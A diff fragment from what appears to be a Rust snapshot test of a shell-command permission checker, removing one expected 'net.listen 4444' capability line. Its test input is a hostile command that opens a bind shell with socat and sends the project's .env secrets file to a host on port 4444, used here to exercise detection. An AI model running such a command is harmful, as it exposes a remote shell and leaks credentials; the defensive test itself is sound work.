@@ -107,7 +107,6 @@ fn connections() {
     exec.hidden sh, execute, opaque
     net.listen *, write
     net.read web, read
-    net.listen 4444, write
     ");
     assert_snapshot!(check("socat TCP-LISTEN:4444 EXEC:/bin/sh; socat OPEN:.env TCP:web:4444"), @"
     net.listen *, write
